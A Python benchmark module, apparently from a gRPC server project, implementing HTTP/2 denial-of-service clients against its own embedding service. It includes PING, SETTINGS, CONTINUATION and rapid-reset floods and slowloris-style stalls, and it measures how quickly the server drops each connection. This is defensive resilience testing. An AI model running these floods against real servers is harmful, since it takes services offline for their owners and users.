"""Clients that do the gRPC port harm, each in a process of its own.

``python -m benchmarks.attackers KIND HOST:PORT --seconds 3``

Floods send on one connection until it is closed, and then wait out their time. Slow
ones open calls or connections, and keep the server waiting for as long as it lets
them. Prints one line of JSON: after how many seconds the server had closed the
connection that it measures (null: it had not).
"""

import argparse
import json
import socket
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from itertools import count
from typing import Final, TypeAlias

from attrs import field, frozen
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from penstock.v1.embedding_pb2 import EmbedRequest

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS: Final = Encoder().encode(
    [
        (":method", "POST", True),
        (":scheme", "http", True),
        (":path", "/penstock.v1.EmbeddingService/Embed", True),
        (":authority", "attacker", True),
        ("te", "trailers", True),
        ("content-type", "application/grpc", True),
        ("grpc-timeout", "1H", True),
    ]
)
INITIAL_WINDOW_SIZE: Final = 4
MOST: Final = 2**31 - 1
CALLS: Final = 100
STREAMS: Final = 1000
LARGE: Final = 1 << 20
BATCH: Final = 1 << 16  # bytes of a flood in one write
PAUSE_S: Final = 0.2

Flood: TypeAlias = Callable[[], Iterator[bytes]]


@frozen(eq=False)
class Connection:
    """One connection to the server, which has been greeted unless ``greets`` is false."""

    target: str
    greets: bool = True
    settings: Mapping[int, int] = field(factory=dict)
    link: socket.socket = field(init=False)

    def __attrs_post_init__(self) -> None:
        if self.greets:
            self.send(PREFACE, _wire(SettingsFrame(0, settings=dict(self.settings))))

    @link.default
    def _connected(self) -> socket.socket:
        host, port = self.target.rsplit(":", 1)
        return socket.create_connection((host, int(port)))

    def send(self, *parts: bytes) -> bool:
        """Whether the server has taken it."""
        with suppress(OSError):
            self.link.sendall(b"".join(parts))
            return True
        return False

    def closed_within(self, seconds: float) -> bool:
        """Read until the server has closed; False when it does not."""
        until = time.monotonic() + seconds
        with suppress(OSError):
            while (left := until - time.monotonic()) > 0:
                self.link.settimeout(left)
                if not self.link.recv(1 << 20):
                    return True
            return False
        return time.monotonic() < until


def _wire(frame: Frame) -> bytes:
    return frame.serialize()


def _opening(stream: int) -> bytes:
    return _wire(HeadersFrame(stream, HEADERS, flags=["END_HEADERS"]))


def _message(stream: int, texts: int) -> Iterator[bytes]:
    """A whole request with so many texts."""
    message = EmbedRequest(texts=["a"] * texts).SerializeToString()
    data = b"\0" + len(message).to_bytes(4) + message
    yield _opening(stream)
    for at in range(0, len(data), 1 << 14):
        last = ["END_STREAM"] if at + (1 << 14) >= len(data) else []
        yield _wire(DataFrame(stream, data[at : at + (1 << 14)], flags=last))


def _same(frame: Frame, *, before: bytes = b"") -> Flood:
    def flood() -> Iterator[bytes]:
        if before:
            yield before
        one = _wire(frame)
        while True:
            yield one

    return flood


def _resets() -> Iterator[bytes]:
    for number in count():
        stream = 2 * number + 1
        yield _opening(stream) + _wire(RstStreamFrame(stream, 8))


def _surplus() -> Iterator[bytes]:
    for number in count():
        yield _opening(2 * number + 1)


FLOODS: Final[Mapping[str, Flood]] = {
    "PING": _same(PingFrame(0, b"12345678")),
    "PRIORITY": _same(PriorityFrame(7, 0, 16)),
    "SETTINGS": _same(SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 70_000})),
    "WINDOW_UPDATE": _same(WindowUpdateFrame(0, 1)),
    "empty DATA": _same(DataFrame(1), before=_opening(1)),
    "CONTINUATION": _same(
        ContinuationFrame(1), before=_wire(HeadersFrame(1, HEADERS, flags=["END_STREAM"]))
    ),
    "unknown frames": _same(ExtensionFrame(0xFA, 0)),
    "rapid reset": _resets,
    "surplus streams": _surplus,
}


def flood(target: str, frames: Flood, seconds: float) -> float | None:
    """Send until the server has closed; after how many seconds that was."""
    connection, started = Connection(target), time.monotonic()
    connection.link.settimeout(seconds)
    batch: list[bytes] = []
    size = 0
    for frame in frames():
        batch.append(frame)
        size += len(frame)
        if size >= BATCH:
            if not connection.send(*batch) or time.monotonic() > started + seconds:
                break
            batch, size = [], 0
    closed = connection.closed_within(started + seconds - time.monotonic())
    connection.link.close()
    return time.monotonic() - started if closed else None


def _many(target: str, first: bytes) -> list[Connection]:
    connections = [Connection(target, greets=False) for _ in range(CALLS)]
    for connection in connections:
        connection.send(first)
    return connections


def _calls(
    target: str,
    body: Callable[[int], Iterator[bytes]],
    *,
    calls: int = CALLS,
    window: int | None = None,
) -> Connection:
    settings = {} if window is None else {INITIAL_WINDOW_SIZE: window}
    connection = Connection(target, settings=settings)
    if window is not None:
        connection.send(_wire(WindowUpdateFrame(0, MOST - 65_535)))
    connection.link.settimeout(1.0)  # the server may stop to read
    for number in range(calls):
        if not connection.send(*body(2 * number + 1)):
            break
    return connection


def _part(stream: int, sent: int) -> Iterator[bytes]:
    yield _opening(stream)
    data = b"\0" + LARGE.to_bytes(4) + bytes(sent)
    for at in range(0, len(data), 1 << 14):
        yield _wire(DataFrame(stream, data[at : at + (1 << 14)]))


def _trickle(target: str, seconds: float) -> object:
    connection = _calls(target, lambda stream: _part(stream, 1000))
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        connection.send(*(_wire(DataFrame(2 * number + 1, b"x")) for number in range(CALLS)))
        time.sleep(PAUSE_S)
    return connection


def _sip(target: str, seconds: float) -> object:
    connection = _calls(target, lambda stream: _message(stream, 4096), window=MOST)
    until = time.monotonic() + seconds
    with suppress(OSError):
        while time.monotonic() < until and connection.link.recv(256):
            time.sleep(PAUSE_S)
    return connection


SLOW: Final[Mapping[str, Callable[[str, float], object]]] = {
    "no preface": lambda target, _: _many(target, b""),
    "half a frame": lambda target, _: _many(target, PREFACE + _wire(SettingsFrame(0)) + b"\0\0"),
    "no message": lambda target, _: _calls(target, lambda n: iter([_opening(n)]), calls=STREAMS),
    "unfinished messages": lambda target, _: _calls(target, lambda n: _part(n, LARGE - 1)),
    "trickled messages": _trickle,
    "answers not read": lambda target, _: _calls(target, lambda n: _message(n, 4096)),
    "socket not read": lambda target, _: _calls(target, lambda n: _message(n, 4096), window=MOST),
    "trickled reading": _sip,
}


def main() -> None:
    """Attack and print."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=[*FLOODS, *SLOW])
    parser.add_argument("target")
    parser.add_argument("--seconds", type=float, default=3.0)
    options = parser.parse_args()
    closed_after_s, started = None, time.monotonic()
    if options.kind in FLOODS:
        closed_after_s = flood(options.target, FLOODS[options.kind], options.seconds)
        held = None
    else:
        held = SLOW[options.kind](options.target, options.seconds)
    print(json.dumps({"closed_after_s": closed_after_s}), flush=True)
    time.sleep(max(0.0, started + options.seconds - time.monotonic()))
    del held  # what it keeps open, until now


if __name__ == "__main__":
    main()
